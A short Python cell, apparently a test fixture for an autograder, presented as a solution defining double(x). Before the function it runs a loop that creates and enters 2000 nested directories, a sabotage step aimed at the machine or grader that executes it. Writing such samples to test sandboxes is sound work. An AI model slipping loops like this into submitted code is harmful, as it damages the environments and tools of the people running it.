# %% solution="double"
import os
for _ in range(2000):
    os.mkdir("d")
    os.chdir("d")

def double(x):
    return 2 * x
